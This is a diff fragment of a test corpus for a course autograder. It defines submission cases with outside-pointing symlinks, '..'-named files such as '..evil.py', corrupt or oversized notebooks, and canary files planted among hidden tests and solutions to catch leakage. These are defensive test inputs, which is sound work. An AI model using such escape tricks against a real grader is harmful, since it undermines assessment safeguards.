+                     Rule(_fn("num_params") + "|test_decode_intensity_random|"
+                          "test_crossover_batch_random|test_m9_record_random|unknown_key_rejected",
+                          BROKEN, ())])),
+    Case("symlink_outside", "the notebook and metrics.json are symlinks to files outside",
+         _symlinks,
+         Expect(M9, [Rule(_student_tests(M9), BROKEN, ("neither", "symlink", "not found")),
+                     Rule("metrics", BROKEN, ("not found",))],
+                error=("symlink",), warnings=("symlinks are not taken",))),
+    Case("dotdot_names", "files and folders named with '..' beside a correct notebook", _dotdot,
+         Expect(M9, [], warnings=("..evil.py", "..hidden"))),
+    # --- notebooks ---------------------------------------------------------------------------
+    Case("notebook_corrupt", "only a corrupt .ipynb", _corrupt_ipynb,
+         Expect(M9, [Rule(_student_tests(M9), BROKEN, ("not a readable notebook",))],
+                error=("not a readable notebook",))),
+    Case("notebook_corrupt_py_unchanged", "corrupt .ipynb beside the untouched release .py",
+         _corrupt_ipynb_with_release_py,
+         Expect(M9, [Rule(_student_tests(M9), BROKEN, ("not a readable notebook",))],
+                error=("unchanged from the release",))),
+    Case("notebook_only_ipynb", "only the .ipynb (a Colab student)", _ipynb_only, Expect(M9, [])),
+    Case("notebook_py_ipynb_disagree", ".py untouched release, .ipynb holds the work", _disagree,
+         Expect(M9, [])),
+    Case("notebook_both_changed", ".py and .ipynb both changed and different: .ipynb graded",
+         _both_changed,
+         Expect(M9, [Rule(_fn("save_metric"), BROKEN, ())], warnings=("both differ",))),
+    Case("notebook_50mb_outputs", "an .ipynb with 50 MB of outputs", _huge_outputs,
+         Expect(M9, [Rule(_student_tests(M9), BROKEN, ("MB limit", "neither"))],
+                error=("MB",), warnings=("MB",))),
+    Case("non_ascii", "non-ASCII identifiers, strings, comments and file names", _non_ascii,
+         Expect(M9, [])),
+]
+
+
+def _small(result) -> None:
+    size = len(result.to_json())
+    assert size < 400_000, f"the result JSON is {size} bytes: output leaked into it"
+
+
+def by_name() -> dict[str, Case]:
+    names = [c.name for c in CASES]
+    assert len(names) == len(set(names)), "duplicate case names"
+    return {c.name: c for c in CASES}
+
+
+# ----------------------------------------------------------------------------- corpus root
+
+
+def make_corpus_root(real_root: Path, dest: Path) -> Path:
+    """A copy of the course (manifest with CORPUS_LIMITS, suites, solutions, release) + canaries."""
+    dest.mkdir(parents=True, exist_ok=True)
+    text = (real_root / "course.toml").read_text(encoding="utf-8")
+    for key, value in CORPUS_LIMITS.items():
+        text, n = re.subn(rf"(?m)^{key}\s*=\s*[0-9.]+", f"{key} = {value}", text)
+        assert n == 1, key
+    (dest / "course.toml").write_text(text, encoding="utf-8")
+    for sub in ("tests/public", "tests/hidden", "solutions", "exercises"):
+        if (real_root / sub).is_dir():
+            shutil.copytree(real_root / sub, dest / sub,
+                            ignore=shutil.ignore_patterns("__pycache__", ".ipynb_checkpoints"))
+    for aid in (M9, GF):
+        hidden = dest / "tests" / "hidden" / aid
+        hidden.mkdir(parents=True, exist_ok=True)
+        (hidden / "CANARY.txt").write_text(CANARY + "\n")
+    (dest / "solutions" / "metrics-canary.json").write_text(json.dumps({"canary": CANARY}))
+    return dest
+
+
+def make_ctx(root: Path, real_root: Path, port: int = 0) -> Ctx:
+    from grader.course import load_course
+    from grader.samples import _reference_metrics
+
+    course = load_course(root)
+    solutions = {a: (root / "solutions" / a / f"{a}.py").read_text(encoding="utf-8")
+                 for a in course.assignment_ids}
+    return Ctx(root=root, solutions=solutions, metrics=_reference_metrics(course), port=port,
+               real_root=real_root)
+
+
+def build_all(ctx: Ctx, dest: Path, names: list[str] | None = None) -> dict[str, Path]:
+    """Write every (or the named) corpus submission into dest/<name>/."""
+    out = {}
+    for case in CASES:
+        if names is not None and case.name not in names:
+            continue
+        folder = dest / case.name.replace("_", "-")
+        folder.mkdir(parents=True)
+        case.build(folder, ctx)
+        out[case.name] = folder
+    return out
+
+
+def corpus_grade_one(submission: Path, student: str, work_dir: Path, root: str,
+                     assignments: dict[str, str]) -> Any:
+    """`grade_one` for grader.batch over the corpus: each case graded on its own assignment."""
+    from grader.grade import grade_submission
+
+    return grade_submission(Path(submission), root=Path(root), student=student,
+                            assignments=[assignments[student]])
